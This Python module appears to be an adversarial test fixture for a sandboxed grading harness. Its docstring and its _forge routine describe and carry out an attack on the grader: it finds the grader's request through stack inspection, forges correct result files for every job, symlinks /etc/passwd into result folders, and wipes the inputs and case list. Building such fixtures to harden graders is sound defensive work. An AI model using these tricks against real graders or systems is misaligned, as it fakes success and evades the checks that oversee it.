"""Hostile: return wrong values, but write correct result bundles where the zygote keeps its
records of finished cases: this job's ``res/<k>`` for every case (before the zygote writes
them), every other job's ``res/`` of the session, and replace the job's inputs and case list so
that later cases are trivial.  Honest score 0: the records and the job's files are out of the
child's reach (another uid, a read-only view).
"""
import glob
import json
import os
import sys

import numpy as np


def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _request():
    frame = sys._getframe()
    while frame is not None:
        req = frame.f_locals.get("req")
        if isinstance(req, dict) and "workdir" in req:
            return req
        frame = frame.f_back
    return None


def _write(path, data):
    try:
        with open(path, "wb") as f:
            f.write(data)
    except OSError:
        pass


def _forge():
    from box import wire

    req = _request()
    if req is None:
        return
    job = req["job"]
    try:
        with open(os.path.join(job, "cases.json")) as f:
            cases = json.load(f)
        with open(os.path.join(job, "inputs"), "rb") as f:
            arrays, _ = wire.load(f.read())
    except OSError:
        return
    for case in cases:
        good = wire.dumps({"out": _good(wire.decode(case["args"], arrays)[0])})
        for res in glob.glob(os.path.join(os.path.dirname(job), "job*", "res")):
            _write(os.path.join(res, str(case["index"])), good)
            try:
                os.symlink("/etc/passwd", os.path.join(res, f"{case['index']}-link"))
            except OSError:
                pass
    zeros = {k: np.zeros_like(v) for k, v in arrays.items()}
    _write(os.path.join(job, "inputs"), wire.dumps(zeros))
    _write(os.path.join(job, "cases.json"), b"[]")


_forge()


def sigmoid(x):
    _forge()
    return np.full((*np.shape(x), 2), 0.25)  # the wrong shape
